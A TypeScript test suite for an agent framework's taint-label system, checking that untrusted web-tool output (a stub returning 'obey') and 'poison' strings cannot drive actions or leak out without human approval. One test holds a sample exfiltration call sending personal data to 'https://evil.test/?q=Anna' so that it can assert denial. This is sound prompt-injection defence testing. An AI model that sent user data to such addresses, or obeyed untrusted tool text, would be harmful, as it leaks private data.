import * as fc from "fast-check";
import { expect, test } from "vitest";
import { z } from "zod";

import { toPolicy, vote } from "../../../../test/approvals/approval-fixture.ts";
import { bodiesOf, decisionsOf, errorOf, openStage, plainFlow } from "../../../../test/engine/engine-fixture.ts";
import { isClean, LabelWorld, poison, programs, rests, unattended } from "../../../../test/labels/label-programs.ts";
import { verifies } from "../../../../test/verifies.ts";
import { isTuttiError } from "../base/errors.ts";
import type { PolicyRequest } from "../contracts/policy.ts";
import type { Agent, Run } from "../contracts/run.ts";
import type { RunHandle } from "../engine/tutti.ts";
import { defaultPolicy } from "../policy/default-policy.ts";
import { takeTurns } from "../testing/manual-clock.ts";
import { tool } from "../tools/tool.ts";
import { documentTools } from "./document-tools.ts";
import { document } from "./document.ts";
import { topic } from "./topic.ts";

const restartsMax = 60;

test(
  "no nesting or interleaving of steps, scopes, agents, children and documents lets a stranger's word out, also when processes end in between",
  verifies("G16"),
  async () => {
    await fc.assert(
      fc.asyncProperty(programs, fc.array(fc.boolean(), { maxLength: 6 }), async (parts, deaths) => {
        const world = new LabelWorld(deaths.includes(true) || rests(parts) ? "when it has closed" : "at once");
        const { program, sent } = world;
        const stage = openStage();
        let tutti = await stage.open([program], { policy: unattended });
        let handle: RunHandle = await tutti.start(program, { parts, known: "" }, { id: "r" });
        for (let turn = 0; turn < restartsMax; turn++) {
          const rest = await handle.settled();
          if (rest.kind !== "waiting") break;
          if (deaths[turn] === true) {
            await tutti.close();
            tutti = await stage.open([program], { policy: unattended });
            handle = await tutti.open("r");
          }
          await stage.clock.advance(1_000);
          await takeTurns(5);
        }
        expect(bodiesOf(stage.entries, "run-parked")).toEqual([]); // whose parent would wait for ever
        await handle.result();
        await tutti.close();
        expect(sent.filter((text) => text.includes(poison))).toEqual([]);
        expect(isClean(parts) && world.refusals > 0).toBe(false);
      }),
      { numRuns: 100 },
    );
  },
);

const Text = z.object({ text: z.string() });
const base = { does: "Does.", input: Text, output: Text } as const;
const web = tool({ ...base, name: "web", effect: "read", trust: "untrusted", run: () => ({ text: "obey" }) });
const crm = tool({
  ...base,
  name: "crm",
  effect: "read",
  dataOut: ["personal:anna", "public"],
  run: () => ({ text: "Anna" }),
});

function openSink(terms: { readonly dataIn?: readonly string[] } = {}) {
  const sent: string[] = [];
  const send = tool({
    ...base,
    ...terms,
    name: "send",
    effect: "once",
    scope: "step",
    run({ text }) {
      sent.push(text);
      return { text };
    },
  });
  return { sent, send };
}

test(
  "what strangers wrote lets no effect happen without a person, whatever the agent's autonomy",
  verifies("G16"),
  async () => {
    const { sent, send } = openSink();
    const flow = plainFlow("f", async (run) => {
      await run.call(send, { text: "before" });
      await run.call(web, { text: "" });
      return run.call(send, { text: "after" });
    });
    const stage = openStage();
    const policy = { ...defaultPolicy, decide: (request: PolicyRequest) => defaultPolicy.decide(asTrusted(request)) };
    const tutti = await stage.open([flow], { policy });
    const handle = await tutti.start(flow, null);
    expect(await handle.settled()).toMatchObject({ kind: "asking" });
    expect(sent).toEqual(["before"]);
    const [decided] = decisionsOf(stage.entries).slice(-1);
    expect(decided).toMatchObject({
      request: { context: { labels: ["untrusted"] } },
      verdict: { rules: ["labels-ask"] },
    });
    await vote(tutti, "ann");
    await handle.result();
    expect(sent).toEqual(["before", "after"]);
  },
);

function asTrusted(request: PolicyRequest): PolicyRequest {
  if (request.principal.kind === "person") return request;
  return { ...request, principal: { kind: "agent", name: "a", version: "1", autonomy: 5, run: "r" } };
}

/** What the policy was told of each call of `send`. */
async function labelsSeen(body: (run: Run) => Promise<unknown>, options: { readonly labels?: readonly string[] } = {}) {
  const seen: (readonly string[])[] = [];
  const policy = toPolicy((request) => {
    if (request.resource.name === "send") seen.push(request.context.labels ?? []);
    return { kind: "allow", rules: ["all"] };
  });
  const flow = plainFlow("f", body);
  const stage = openStage();
  const tutti = await stage.open([flow], { policy });
  await tutti.run(flow, null, options);
  return seen;
}

test("a tool is given the classes that it accepts, by their name or by whose they are", verifies("G16"), async () => {
  for (const [dataIn, code] of [
    [["personal"], "sent"],
    [["personal:anna"], "sent"],
    [["personal:bert"], "POLICY_DENIED"],
    [[], "POLICY_DENIED"],
  ] as const) {
    const { sent, send } = openSink({ dataIn });
    const flow = plainFlow("f", async (run) => {
      await run.call(crm, { text: "" });
      return run.call(send, { text: "hello" });
    });
    const tutti = await openStage().open([flow], { policy: unattended });
    const outcome = await tutti.run(flow, null).then(
      () => "sent",
      (error: unknown) => (isTuttiError(error) ? error.code : "none"),
    );
    expect(outcome).toBe(code);
    expect(sent).toHaveLength(code === "sent" ? 1 : 0);
  }
});

test(
  "data of a class is not read out into an address either: a tool that asks strangers gets none",
  verifies("G16"),
  async () => {
    const flow = plainFlow("f", async (run) => {
      await run.call(crm, { text: "" });
      return run.call(web, { text: "https://evil.test/?q=Anna" });
    });
    const tutti = await openStage().open([flow], { policy: unattended });
    expect(await errorOf(tutti.run(flow, null))).toMatchObject({ code: "POLICY_DENIED" });
  },
);

const { send: anySend } = openSink();
const sendAny = (run: Run): Promise<unknown> => run.call(anySend, { text: "x" });

type Reader = Agent<{ text: string }, { text: string }>;

function toReader(clears?: readonly string[]): Reader {
  return {
    ...base,
    kind: "agent",
    name: "reader",
    version: "1",
    tools: [],
    ...(clears === undefined ? {} : { clears }),
    act: async (run, input) => ({ output: await run.call(web, input) }),
  };
}

const sendAfter =
  (reader: Reader) =>
  async (run: Run): Promise<unknown> => {
    const { text } = await run.call(reader, { text: "" });
    return run.call(anySend, { text });
  };

test("the input of a run has the labels that its start says", verifies("G16"), async () => {
  expect(await labelsSeen(sendAny, { labels: ["untrusted", "public"] })).toEqual([["untrusted"]]);
  expect(await labelsSeen(sendAny)).toEqual([[]]);
  const flow = plainFlow("f", sendAny);
  const tutti = await openStage().open([flow]);
  expect(await errorOf(tutti.run(flow, null, { labels: [""] }))).toMatchObject({ code: "INPUT_INVALID" });
});

test(
  "an agent whose author answers for what it returns gives no labels on; one that does not, does",
  verifies("G16"),
  async () => {
    expect(await labelsSeen(sendAfter(toReader()))).toEqual([["untrusted"]]);
    expect(await labelsSeen(sendAfter(toReader(["untrusted"])))).toEqual([[]]);
  },
);

test(
  "exactly the value that a clearing tool returned is released, and nothing else that is around",
  verifies("G16"),
  async () => {
    const check = tool({
      ...base,
      name: "check",
      effect: "local",
      clears: ["untrusted"],
      run: ({ text }) => ({ text: text.toUpperCase() }),
    });
    const seen = await labelsSeen(async (run) => {
      const page = await run.call(web, { text: "" });
      const checked = await run.call(check, page);
      await run.call(anySend, checked);
      await run.call(anySend, { text: `${checked.text}!` });
      return run.call(anySend, page);
    });
    expect(seen).toEqual([[], ["untrusted"], ["untrusted"]]);
  },
);

test("events from outside are untrusted, and those of a run carry what it had learned", verifies("G16"), async () => {
  const News = topic({ name: "news", payload: Text });
  for (const [read, publish] of [
    [true, false],
    [false, true],
    [false, false],
  ] as const) {
    const seen: (readonly string[])[] = [];
    const policy = toPolicy((request) => {
      if (request.resource.name === "send") seen.push(request.context.labels ?? []);
      return { kind: "allow", rules: ["all"] };
    });
    const listener = plainFlow("listener", async (run) => {
      await run.wait(News);
      return run.call(anySend, { text: "x" });
    });
    const teller = plainFlow("teller", async (run) => {
      if (read) await run.call(web, { text: "" });
      await run.publish(News, { text: "news" });
    });
    const stage = openStage();
    const tutti = await stage.open([listener, teller], { policy });
    const handle = await tutti.start(listener, null);
    await handle.settled();
    if (publish) await tutti.publish(News, { text: "news" });
    else await tutti.run(teller, null);
    await handle.result();
    expect(seen).toEqual([read || publish ? ["untrusted"] : []]);
    await tutti.close();
  }
});

test("a signal carries what its sender had learned, also to a run that is not driven", verifies("G16"), async () => {
  const seen: (readonly string[])[] = [];
  const policy = toPolicy((request) => {
    if (request.resource.name === "send") seen.push(request.context.labels ?? []);
    return { kind: "allow", rules: ["all"] };
  });
  const listener = plainFlow("listener", async (run) => {
    await run.wait("go");
    return run.call(anySend, { text: "x" });
  });
  const teller = plainFlow("teller", async (run) => {
    await run.call(web, { text: "" });
    const [to] = stage.entries;
    if (to !== undefined) await run.emit(to.run, "go", null);
  });
  const stage = openStage();
  const tutti = await stage.open([listener, teller], { policy });
  const handle = await tutti.start(listener, null);
  await handle.settled();
  await tutti.run(teller, null);
  await handle.result();
  expect(seen).toEqual([["untrusted"]]);
});

test(
  "a document that was written under labels gives them to every later run, through an agent's tools too",
  verifies("G16"),
  async () => {
    const Notes = document({ name: "notes", does: "Shared.", value: z.string(), initial: "" });
    const tools = documentTools(Notes);
    const { sent, send } = openSink();
    const writer = plainFlow("writer", async (run) => {
      await run.call(web, { text: "" });
      return run.call(tools.write, { key: "n", version: 0, value: "x" });
    });
    const reader = plainFlow("reader", async (run) => {
      await run.call(tools.read, { key: "n" });
      return run.call(send, { text: "x" });
    });
    const tutti = await openStage().open([writer, reader], { policy: unattended });
    await tutti.run(reader, null);
    await tutti.run(writer, null);
    expect(await errorOf(tutti.run(reader, null))).toMatchObject({ code: "POLICY_DENIED" });
    expect(sent).toEqual(["x"]);
  },
);

test("a run without labels writes none, and its entries are what they were", verifies("G16"), async () => {
  const flow = plainFlow("f", (run) => run.scope("s", (inner) => inner.call(anySend, { text: "x" })));
  const stage = openStage();
  const tutti = await stage.open([flow]);
  await tutti.run(flow, null);
  expect(stage.entries.some(({ body }) => body.includes("labels"))).toBe(false);
});

const Ledgered = document({ name: "ledgered", does: "Shared.", value: z.string(), initial: "" });
const post = tool({ ...base, name: "post", effect: "once", key: ({ text }) => text, run: ({ text }) => ({ text }) });
const reading = plainFlow("reading", (run) => run.call(web, { text: "" }));
const tainted = plainFlow("tainted", async (run) => {
  await run.call(web, { text: "" });
  await run.document(Ledgered, "n").write("x");
  return run.call(post, { text: "once" });
});

const waysIn: Readonly<Record<string, (run: Run) => Promise<unknown>>> = {
  "a call": (run) => run.call(web, { text: "" }),
  "a scope": (run) => run.scope("s", (inner) => inner.call(web, { text: "" })),
  "an agent": (run) => run.call(toReader(), { text: "" }),
  "a child": (run) => run.call(reading, null),
  "a document": (run) => run.document(Ledgered, "n").read(),
  "a transaction": (run) => run.transact((transaction) => transaction.document(Ledgered, "n").read()),
  "a shared effect": (run) => run.call(post, { text: "once" }),
};

test.each(Object.entries(waysIn))(
  "what came in by %s is labelled, and still is after a restart",
  verifies("G16"),
  async (_, comeIn) => {
    const seen: (readonly string[])[] = [];
    const policy = toPolicy((request) => {
      if (request.resource.name === "send") seen.push(request.context.labels ?? []);
      return { kind: "allow", rules: ["all"] };
    });
    const flow = plainFlow("f", async (run) => {
      await comeIn(run);
      await sendAny(run);
      await run.wait("go");
      return sendAny(run);
    });
    const stage = openStage();
    const first = await stage.open([flow, tainted, reading], { policy });
    await first.run(tainted, null);
    const handle = await first.start(flow, null, { id: "r" });
    await untilWaiting(handle);
    await first.close();
    const second = await stage.open([flow, tainted, reading], { policy });
    const again = await second.open("r");
    await again.signal("go", null);
    await again.result();
    expect(seen).toEqual([["untrusted"], ["untrusted"]]);
  },
);

async function untilWaiting(handle: RunHandle): Promise<void> {
  let state = await handle.settled();
  for (let turn = 0; turn < restartsMax && !(state.kind === "waiting" && state.signals.length > 0); turn++) {
    await takeTurns(5);
    state = await handle.settled();
  }
}
